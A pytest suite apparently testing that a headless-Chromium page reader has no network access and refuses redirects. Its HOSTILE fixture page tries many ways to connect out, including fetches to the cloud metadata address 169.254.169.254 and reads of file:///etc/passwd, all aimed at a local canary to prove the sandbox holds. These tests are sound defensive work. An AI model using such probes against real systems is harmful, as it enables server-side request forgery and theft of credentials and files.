"""Pages that scripts draw are read in a browser that reaches nothing by itself."""

import asyncio
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from chromium import CHROMIUM
from kit.scripted_web import Web
from nightdesk.kit.clock import SetClock
from nightdesk.kit.endings import NeedsPerson
from nightdesk.kit.http.fetch import Fetcher, FetchLimits
from nightdesk.kit.http.guard import Guard
from nightdesk.kit.processes import ChildLimits
from nightdesk.sources.documents import DocumentRefused
from nightdesk.sources.pages import PageMeans, Pages, open_pages
from nightdesk.sources.pages import browser as browser_pages
from nightdesk.sources.pages.browser import BrowserPages, PageTooSlow

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: `make browser` installs it")

TEXT = (
    "A heap of leaves warms up when it is turned and a bin of wood keeps the rain off it all winter long. "
    * 4
)
HTML, SCRIPT = "Content-Type: text/html", "Content-Type: text/javascript"
DRAWN = (
    b"<!doctype html><html><head><title>Heaps in winter</title></head><body><div id=at></div>"
    b"<script src=/draw.js></script></body></html>"
)
DRAW = b"""
fetch("/text.json").then(answer => answer.json()).then(told => {
  const article = document.createElement("article")
  article.innerHTML = "<h1>Heaps in winter</h1>" + told.map(one => `<p>${one}</p>`).join("")
  document.getElementById("at").append(article)
})
"""


@pytest.fixture
async def web() -> AsyncIterator[Web]:
    served = Web()
    await served.start()
    yield served
    await served.stop()


def means(web: Web, *, browser: bool = True) -> PageMeans:
    guard = Guard(allow=[("127.0.0.1", web.port)])
    clock = SetClock(datetime(2026, 1, 1, tzinfo=UTC))
    fetcher = Fetcher(guard, clock, limits=FetchLimits(seconds=5.0))
    return PageMeans(fetcher, browser=Path(str(CHROMIUM)) if browser else None)


def pages(web: Web, *, browser: bool = True) -> Pages:
    return open_pages(means(web, browser=browser), ())


def asked(web: Web) -> list[str]:
    return [head.split(" ")[1] for head in web.heads]


async def test_a_page_whose_text_scripts_write_is_read_once_a_browser_is_switched_on(web: Web) -> None:
    web.says("/", DRAWN, HTML)
    web.says("/draw.js", DRAW, SCRIPT)
    web.says("/text.json", f'["{TEXT}", "{TEXT}"]'.encode(), "Content-Type: application/json")
    url = f"http://127.0.0.1:{web.port}/"
    with pytest.raises(DocumentRefused, match="drawn by scripts"):
        await pages(web, browser=False).read(url)
    found = await pages(web).read(url)
    assert (found.title, found.url) == ("Heaps in winter", url)
    assert TEXT.strip() in found.text
    assert asked(web) == ["/", "/", "/", "/draw.js", "/text.json"]


async def test_a_page_that_has_its_text_is_read_without_a_browser(web: Web) -> None:
    page = (
        f"<html><head><title>Heaps</title></head><body><article><p>{TEXT}</p><p>{TEXT}</p><script src=/x.js>"
    )
    web.says("/", page.encode(), HTML)
    assert TEXT.strip() in (await pages(web).read(f"http://127.0.0.1:{web.port}/")).text
    assert asked(web) == ["/"]


HOSTILE = """<!doctype html><html><head><title>Heaps</title>
<link rel=preconnect href="http://127.0.0.1:{canary}/"><link rel=dns-prefetch href="//127.0.0.1:{canary}/">
<link rel=stylesheet href="http://127.0.0.1:{canary}/a.css"><link rel=icon href="http://127.0.0.1:{canary}/a.ico">
<script src="http://169.254.169.254/latest/meta-data/"></script>
<script src="http://127.0.0.1:{canary}/a.js"></script><script src=/moved.js></script>
</head><body><article><h1>Heaps</h1><p>Short.</p><p id=out></p></article>
<img src="http://127.0.0.1:{canary}/a.png"><iframe src="http://127.0.0.1:{canary}/frame"></iframe>
<iframe src="http://169.254.169.254/"></iframe><object data="http://127.0.0.1:{canary}/o"></object>
<video src="http://127.0.0.1:{canary}/v.mp4" autoplay></video><embed src="http://127.0.0.1:{canary}/e">
<form id=f action="http://127.0.0.1:{canary}/form" method=post target=_blank><input name=a></form>
<script>
const at = "127.0.0.1:{canary}", tries = [
  () => fetch("http://" + at + "/fetch", {{mode: "no-cors"}}), () => fetch("http://[::1]:{canary}/six"),
  () => fetch("/post", {{method: "POST", body: "x"}}), () => fetch("http://2130706433:{canary}/"),
  () => navigator.sendBeacon("http://" + at + "/beacon", "x"), () => new WebSocket("ws://" + at + "/socket"),
  () => new EventSource("http://" + at + "/events"), () => window.open("http://" + at + "/popup"),
  () => new RTCPeerConnection({{iceServers: [{{urls: "stun:" + at}}]}}).createDataChannel("x"),
  () => new Worker(URL.createObjectURL(new Blob([`fetch("http://${{at}}/worker")`]))),
  () => navigator.serviceWorker.register("/sw.js"), () => import("http://" + at + "/module.js"),
  () => {{ const f = document.createElement("iframe"); document.body.append(f);
           new f.contentWindow.WebSocket("ws://" + at + "/framed") }},
  () => document.getElementById("f").submit(), () => fetch("file:///etc/passwd"),
]
for (const one of tries) try {{ Promise.resolve(one()).catch(() => 0) }} catch {{}}
document.getElementById("out").textContent = "{text}"
</script></body></html>"""


async def attacked(web: Web) -> tuple[str, int]:
    """The text that is read of the hostile page, and how many connections it came to."""
    hits: list[bytes] = []

    async def canary(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        hits.append(b"connected")
        writer.close()

    inside = await asyncio.start_server(canary, "127.0.0.1", 0)
    port = inside.sockets[0].getsockname()[1]
    web.says("/", HOSTILE.format(canary=port, text=TEXT).encode(), HTML)
    web.says("/moved.js", b"", f"Location: http://127.0.0.1:{port}/moved", status="302 Found")
    found = await BrowserPages(means(web)).read(f"http://127.0.0.1:{web.port}/")
    inside.close()
    return found.text, len(hits)


async def test_a_hostile_page_connects_to_nothing(web: Web) -> None:
    text, hits = await attacked(web)
    assert TEXT.strip() in text
    assert hits == 0
    assert {head.split(" ")[0] for head in web.heads} == {"GET"}
    assert set(asked(web)) == {"/", "/moved.js"}


def weakened(tmp_path: Path, *changes: tuple[str, str]) -> Path:
    """The child with something of it taken away."""
    text = browser_pages._CHILD.read_text()
    for there, instead in changes:
        assert there in text
        text = text.replace(there, instead)
    child = tmp_path / "child.py"
    child.write_text(text)
    return child


UNROUTED = ("await route.abort()", "await route.continue_()")
UNSWITCHED = ("args=list(SWITCHES)", "args=[]")


@pytest.mark.prove
async def test_the_browser_has_no_network_even_where_requests_are_let_through(
    web: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser_pages, "_CHILD", weakened(tmp_path, UNROUTED))
    text, hits = await attacked(web)
    assert (TEXT.strip() in text, hits) == (True, 0)


@pytest.mark.prove
async def test_the_hostile_page_is_seen_to_connect_where_neither_wall_stands(
    web: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser_pages, "_CHILD", weakened(tmp_path, UNROUTED, UNSWITCHED))
    _, hits = await attacked(web)
    assert hits > 5


async def test_a_page_that_sends_the_browser_elsewhere_takes_it_nowhere_inside(web: Web) -> None:
    web.says("/", b"<script>location = 'http://169.254.169.254/latest/meta-data/'</script>", HTML)
    with pytest.raises(DocumentRefused, match="leads on"):
        await pages(web).read(f"http://127.0.0.1:{web.port}/")
    assert set(asked(web)) == {"/"}


@pytest.mark.prove
async def test_a_page_that_never_stands_still_is_given_up_and_leaves_no_browser(web: Web) -> None:
    web.says("/", b"<body><script>for (;;) {}</script></body>", HTML)
    reader = BrowserPages(means(web), limits=ChildLimits(seconds=4.0, memory=1 << 46, open_files=1024))
    with pytest.raises(PageTooSlow):
        await reader.read(f"http://127.0.0.1:{web.port}/")
    for _ in range(50):
        if not browsers():
            return
        await asyncio.sleep(0.1)
    assert browsers() == []


def browsers() -> list[str]:
    """Command lines of the browsers that this reader started and that still run."""
    found = []
    for process in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            line = process.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if "nowhere.invalid" in line:
            found.append(line[:100])
    return found


async def test_a_browser_that_is_not_there_is_named(web: Web) -> None:
    web.says("/", DRAWN, HTML)
    lacking = PageMeans(means(web).fetcher, browser=Path("/nowhere/chromium"))
    with pytest.raises(NeedsPerson, match="NIGHTDESK_BROWSER"):
        await BrowserPages(lacking).read(f"http://127.0.0.1:{web.port}/")


async def test_without_the_library_it_is_said_how_to_install_it(
    web: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The child's own file, in a Python that has no Playwright."""
    child = tmp_path / "child.py"
    text = browser_pages._CHILD.read_text()
    child.write_text("import sys\nsys.modules['playwright'] = None\n" + text)
    monkeypatch.setattr(browser_pages, "_CHILD", child)
    web.says("/", DRAWN, HTML)
    with pytest.raises(NeedsPerson, match=r"nightdesk\[browser\]"):
        await BrowserPages(means(web)).read(f"http://127.0.0.1:{web.port}/")
